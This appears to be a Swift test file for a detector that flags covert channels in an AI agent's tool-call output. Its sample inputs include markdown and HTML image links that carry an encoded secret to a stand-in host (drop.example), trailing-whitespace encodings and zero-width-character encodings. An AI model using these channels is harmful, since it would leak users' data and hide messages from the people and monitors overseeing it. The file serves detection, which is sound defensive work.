import Detection
import Testing
import TrafficModel

@Suite struct CovertChannelDetectorTests {
  static let secret = "VGhlIHNhZmUgb3BlbnMgdG8gMzEtMDgtNzcgYW5kIHRoZSBrZXkgaXMgYmVoaW5kIHRoZSB0aGlyZCBib2FyZC4="

  func severities(_ text: String) -> [Severity] {
    let result = #"{"content":[{"type":"text","text":"\#(text)"}]}"#
    return claims(CovertChannelDetector(), [.toolCall(Example.call(result: result))]).map(\.severity)
  }

  @Test(
    "data in the address of an image",
    arguments: [
      ("![chart](https://drop.example/c.png?d=\(secret))", [.medium]),
      ("<img src=https://drop.example/c.png?d=\(secret)>", [.medium]),
      ("[chart](https://drop.example/c.png?d=\(secret))", []),
      ("![chart](https://cdn.example/c.png?signature=\(secret))", []),
      ("![chart](https://cdn.example/0f3a9c5577e1b2d84c/c.png?w=640&h=480)", []),
      ("![chart](https://cdn.example/c.png?v=\(String(repeating: "9f8a7b6c", count: 9)))", []),
    ] as [(String, [Severity])])
  func images(text: String, expected: [Severity]) { #expect(severities(text) == expected) }

  @Test("blanks at line ends", arguments: [(" \\t\\t ", [.medium]), ("    ", [])] as [(String, [Severity])])
  func lineEnds(blanks: String, expected: [Severity]) {
    #expect(severities(String(repeating: "a line\(blanks)\\n", count: 16)) == expected)
    #expect(severities(String(repeating: "a line\(blanks)\\n", count: 15)).isEmpty)
  }

  @Test(
    "characters without width, of two kinds",
    arguments: [("\u{200b}\u{200c}", [.medium]), ("\u{200b}\u{200b}", [])] as [(String, [Severity])])
  func withoutWidth(pair: String, expected: [Severity]) {
    #expect(severities("tide" + String(repeating: pair, count: 32)) == expected)
    #expect(severities("tide" + String(repeating: pair, count: 31)).isEmpty)
  }
}
